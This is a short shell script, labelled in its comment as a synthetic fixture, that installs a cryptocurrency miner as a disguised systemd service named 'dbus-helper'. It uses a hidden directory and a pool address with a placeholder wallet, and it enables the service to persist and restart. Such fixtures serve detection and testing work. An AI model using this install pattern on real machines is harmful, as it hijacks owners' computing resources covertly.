#!/bin/sh
# Synthetic fixture: installs a miner as a systemd service (nothing here is real).
mkdir -p /opt/.cache
cat > /etc/systemd/system/dbus-helper.service <<UNIT
[Unit]
Description=D-Bus helper
[Service]
ExecStart=/opt/.cache/dbus-helper -o stratum+tcp://203.0.113.7:3333 -u 48FixtureWalletPlaceholder --donate-level 1
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
systemctl daemon-reload
systemctl enable --now dbus-helper
